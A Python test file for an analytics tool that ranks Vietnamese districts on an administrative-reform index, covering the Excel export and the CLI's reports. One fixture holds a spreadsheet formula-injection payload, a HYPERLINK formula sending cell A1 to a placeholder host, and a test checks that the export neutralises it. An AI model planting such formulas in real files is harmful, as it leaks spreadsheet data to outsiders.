"""The Excel workbook equals the analytics results; formula-like names are neutralised; the CLI."""

import io
import json

import openpyxl
import pytest

from analytics import communes, gaps, recoverable
from analytics.cli import main
from analytics.plan import plan_to_target
from analytics.rankings import rankings
from analytics.reports.contents import plan_steps_frame
from analytics.reports.table_files import cell_value
from analytics.reports.workbook import (
    COMMUNE_COLUMNS,
    CRITERIA_COLUMNS,
    FIELD_COLUMNS,
    OFFICE_COLUMNS,
    OFFICE_DETAIL_COLUMNS,
    PLAN_COLUMNS,
    RANKING_COLUMNS,
    analytics_workbook,
)
from analytics.store import connect

EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Bảo Lạc")'


@pytest.fixture(scope="module")
def book(demo_readonly):
    return openpyxl.load_workbook(io.BytesIO(analytics_workbook(demo_readonly, 2020, "042")))


def sheet_rows(sheet) -> list[list]:
    return [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]


def expected(value):
    """What a cell must hold: the analytics value, to the 16 significant digits a sheet stores."""
    value = cell_value(value)
    return pytest.approx(value, rel=1e-14) if isinstance(value, float) else value


def expected_rows(frame, columns) -> list[list]:
    return [[expected(v) for v in row] for row in frame[columns].itertuples(index=False)]


def test_the_workbook_has_every_sheet(book):
    assert book.sheetnames == [
        "Tóm tắt",
        "Xếp hạng",
        "Lĩnh vực",
        "Tiêu chí",
        "Cơ quan",
        "Tiêu chí theo cơ quan",
        "Xã",
        "Kế hoạch",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert all(isinstance(c.value, str) and c.value for c in sheet[1])  # Vietnamese headers


def test_sheets_equal_the_analytics_results(book, demo_readonly):
    offices, detail = recoverable.recoverable_by_office(demo_readonly, 2020, "042")
    expected = {
        "Xếp hạng": expected_rows(rankings(demo_readonly, 2020), RANKING_COLUMNS),
        "Lĩnh vực": expected_rows(gaps.gaps(demo_readonly, 2020, "042", depth=1), FIELD_COLUMNS),
        "Tiêu chí": expected_rows(gaps.gaps(demo_readonly, 2020, "042", depth=2), CRITERIA_COLUMNS),
        "Cơ quan": expected_rows(offices, OFFICE_COLUMNS),
        "Tiêu chí theo cơ quan": expected_rows(detail, OFFICE_DETAIL_COLUMNS),
        "Xã": expected_rows(communes.commune_table(demo_readonly, 2020, "042"), COMMUNE_COLUMNS),
        "Kế hoạch": expected_rows(plan_steps_frame(plan_to_target(demo_readonly, 2020, "042")), PLAN_COLUMNS),
    }
    for title, rows in expected.items():
        assert sheet_rows(book[title]) == rows, title
        assert len(rows) > 0, title


def test_headers_numbers_and_the_home_row(book):
    sheet = book["Xếp hạng"]
    assert [c.value for c in sheet[1]][:4] == ["Xếp hạng", "Mã đơn vị", "Đơn vị", "Tổng điểm"]
    bao_lam = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "042")
    assert (bao_lam[0].value, round(bao_lam[3].value, 2), bao_lam[3].number_format) == (9, 73.79, "0.00")
    assert book["Lĩnh vực"]["B1"].value == "Lĩnh vực"


def test_summary_sheet_holds_the_cards_and_the_paragraph(book):
    items = dict(sheet_rows(book["Tóm tắt"]))
    assert items["Xếp hạng"] == "9/10" and items["Hạng mục tiêu"] == "5/10"
    assert round(items["Tổng điểm"], 2) == 73.79 and round(items["Thay đổi điểm so với năm 2019"], 2) == -7.21
    assert items["Điểm cần thêm để đạt mục tiêu"] == pytest.approx(5.39)
    assert "09 xã xếp loại khá², tăng 05 xã so với năm 2019³" in items["Đánh giá chung"]
    assert items["Chú thích 3"].startswith("Các xã cải thiện thứ bậc (từ Trung bình lên Khá)")


def test_a_unit_name_starting_with_equals_is_neutralised(demo_store):
    con = connect(demo_store)
    con.execute("UPDATE units SET name = ? WHERE code = '043'", [EVIL_NAME])
    book = openpyxl.load_workbook(io.BytesIO(analytics_workbook(con, 2020, "042")))
    con.close()
    cell = next(row[2] for row in book["Xếp hạng"].iter_rows(min_row=2) if row[1].value == "043")
    assert cell.value == "'" + EVIL_NAME
    assert cell.data_type == "s"


# ----- CLI -----------------------------------------------------------------------------------------


def test_cli_report_prints_the_paragraph_and_footnotes(demo_store, capsys):
    assert main(["report", "--year", "2020", "--unit", "042", "--db", str(demo_store)]) == 0
    out = capsys.readouterr().out
    assert "(xếp thứ 9/10 huyện, thành phố), giảm 7,21 điểm và giảm 2 bậc so với năm 2019" in out
    assert "\n¹ Xã xếp loại Tốt: Thạch Lâm.\n" in out
    assert "Dữ liệu minh họa" in out


def test_cli_report_takes_a_unit_name_and_json(demo_store, capsys):
    assert main(["report", "--year", "2020", "--unit", "Hoà An", "--format", "json", "--db", str(demo_store)]) == 0
    payload = json.loads(capsys.readouterr().out)
    assert payload["unit_code"] == "051"
    assert payload["text"].startswith("Năm 2020, kết quả chỉ số CCHC của huyện Hòa An")


def test_cli_report_writes_the_docx(demo_store, tmp_path, capsys):
    out = tmp_path / "bao-cao.docx"
    assert (
        main(["report", "--year", "2020", "--unit", "042", "--docx", str(out), "--no-charts", "--db", str(demo_store)])
        == 0
    )
    import docx

    assert any("73,79 điểm" in p.text for p in docx.Document(str(out)).paragraphs)


def test_cli_export_writes_the_workbook(demo_store, tmp_path, capsys):
    out = tmp_path / "xuat" / "cchc-2020.xlsx"
    assert main(["export", "--year", "2020", "--out", str(out), "--db", str(demo_store)]) == 0
    assert "Đã ghi sổ Excel" in capsys.readouterr().out
    assert openpyxl.load_workbook(out)["Xếp hạng"]["C2"].value == "Thành phố Cao Bằng"


def test_cli_errors_are_one_vietnamese_line_and_status_2(demo_store, capsys):
    assert main(["report", "--year", "2017", "--unit", "042", "--db", str(demo_store)]) == 2
    err = capsys.readouterr().err
    assert err == "Lỗi: Huyện Bảo Lâm chưa có kết quả chỉ số CCHC năm 2017.\n"
